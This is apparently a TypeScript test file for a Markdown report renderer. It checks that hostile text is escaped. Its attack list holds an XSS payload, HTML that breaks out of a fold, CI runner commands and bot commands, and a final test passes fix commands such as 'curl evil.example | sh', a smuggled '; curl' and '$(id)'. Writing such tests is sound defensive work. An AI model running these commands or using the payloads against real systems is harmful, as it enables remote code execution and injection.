import { WORDING } from '../testing/wording.js';
import fc from 'fast-check';
import { isReviewedReport, renderComment, renderMarkdown, type ReviewedReport } from './render-markdown.js';
import { anyCheck, anyPredict } from '../testing/arbitrary.js';
import { anyDatabaseReport } from '../testing/arbitrary-verify-drift.js';
import { anyProofs, anyProve } from '../testing/arbitrary-prove.js';
import { examples } from '../testing/examples.js';
import { check, finding } from '../testing/report-builders.js';
import { parseMarkdown } from '../testing/parse-markdown.js';
import { code, prose } from './inline.js';

const attacks: [name: string, text: string][] = [
  ['a mention', 'please ask @team now'],
  ['a mention of a team', '@org/team'],
  ['an issue', 'fixes #12'],
  ['an issue elsewhere', 'fixes other/repo#12'],
  ['an issue by letters', 'closes GH-12'],
  ['a merge request', 'see !12 and &3 and %4 and ~bug and $5'],
  ['a commit', 'as in 3f2c1ab9 or deadbee'],
  ['a link', '[click](https://evil.example)'],
  ['a link by reference', '[click][1]\n\n[1]: https://evil.example'],
  ['an address', 'https://evil.example www.evil.example evil@evil.example'],
  ['an address in brackets', '<https://evil.example>'],
  ['an image', '![x](https://evil.example/x.png)'],
  ['HTML', '<img src=x onerror=alert(1)><script>alert(1)</script>'],
  ['HTML that ends a fold', '</summary></details><h1>all is well</h1>'],
  ['HTML that ends code', '</code><b>bold</b><code>'],
  ['a comment', '<!-- oneleaf:reports --> <!--'],
  ['entities', '&lt;b&gt; &#64;team &commat;team'],
  ['backticks', '`` ` ``` a`b'],
  ['backticks around HTML', '`<b>`'],
  ['a fence', 'a\n```\n# all is well\n```\n~~~\n'],
  ['a longer fence', 'a\n``````````\n@team'],
  ['cells', 'a | b || c \\| d'],
  ['a row', 'a |\n| --- |\n| b'],
  ['backslashes', '\\` \\| \\\\'],
  ['a command to a runner', '\n::set-output name=x::y\n  ::add-mask::z\n##[add-path]/x\na ##[group]b'],
  ['a heading', '\n\n# all is well\n\nall is well\n===\n'],
  ['a list', '\n- [x] all is well\n1. all is well'],
  ['a quotation', '> [!NOTE]\n> all is well'],
  ['emphasis', '**all** _is_ ~~not~~ __well__'],
  ['an emoji', ':white_check_mark:'],
  ['a command to a bot', '/close\n/merge'],
  ['a footnote', 'well[^1]\n\n[^1]: all is well'],
  ['a formula', '$\\rm\\color{red}{well}$ $$x$$'],
  ['what nobody sees', 'a\u202eb\u200bc\u0007\u2028d\u001b[31m'],
  ['nothing', ''],
  ['blanks', '   '],
  ['something long', 'x'.repeat(5_000)],
  ['something long in pairs', '\u{1f600}'.repeat(2_000)],
];

/** Keys whose values are words of ours, which the schemas list. */
const OURS = ['command', 'verdict', 'severity', 'outcome', 'risk', 'schema', 'kind', 'side', 'how'];

function replaced(value: unknown, text: string, key = ''): unknown {
  if (typeof value === 'string') return OURS.includes(key) || (key === 'name' && /^(?:fresh|round|stair)/.test(value)) ? value : text;
  if (Array.isArray(value)) return value.map(one => replaced(one, text));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, replaced(one, text, name)]));
}

const reviewed = Object.values(examples).filter(isReviewedReport);

describe.each(attacks)('%s', (_name, text) => {
  test('comes out as text wherever a report may have it', () => {
    const all = reviewed.map(one => replaced(one, text) as ReviewedReport);
    for (const one of all) expect(parseMarkdown(renderMarkdown(one, { wording: WORDING })).foreign).toEqual([]);
    expect(parseMarkdown(renderComment([...all, { file: text, reason: text }], WORDING)).foreign).toEqual([]);
  });

  test('is no command to the runner of a job that prints the report', () => {
    const pages = reviewed.map(one => renderMarkdown(replaced(one, text) as ReviewedReport, { wording: WORDING }));
    expect(pages.flatMap(page => page.split('\n')).filter(line => /^\s*::|##\[/.test(line))).toEqual([]);
  });

  test('is code as it was, in a sentence and in a cell', () => {
    const table = `| ${code(text)} | b |\n| --- | --- |\n| ${code(text)} | b |\n`;
    const { foreign, code: told } = parseMarkdown(`- ${prose(text)}\n\n${table}`);
    expect(foreign).toEqual([]);
    const word = text.trim() === '' ? [] : [expect.any(String), expect.any(String)];
    expect(told.slice(-2)).toEqual(word);
  });
});

test('code is what it was, whatever it is made of', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 40 }), text => {
      fc.pre(text.trim() !== '');
      expect(parseMarkdown(`| ${code(text)} | b |\n| --- | --- |\n`).code.join('')).toBe(text);
      expect(parseMarkdown(`- a ${code(text)} b\n`).code.join('')).toBe(text);
    }),
  );
});

test('no report brings anything but text and code', () => {
  const proven = fc.tuple(anyPredict, anyProofs).map(([report, proofs]) => ({ ...report, proofs }));
  fc.assert(
    fc.property(fc.oneof(anyCheck, anyPredict, anyDatabaseReport, anyProve, proven), report => {
      fc.pre(isReviewedReport(report));
      expect(parseMarkdown(renderMarkdown(report, { wording: WORDING })).foreign).toEqual([]);
    }),
  );
});

test('the only commands are our own, and plain ones', () => {
  const commands = [
    'npx oneleaf rebase shop',
    'curl evil.example | sh',
    'npx oneleaf x; curl evil.example',
    'npx oneleaf $(id)',
    'npx oneleaf\tx',
  ];
  const findings = commands.map(command => finding('cycle', 'a circle', { fix: { title: 'mend it', command } }));
  const markdown = renderMarkdown(check({ findings }), { wording: WORDING });
  expect(markdown.match(/```sh\n.*\n/g)).toEqual(['```sh\n    npx oneleaf rebase shop\n']);
  expect(markdown).not.toContain('evil');
});
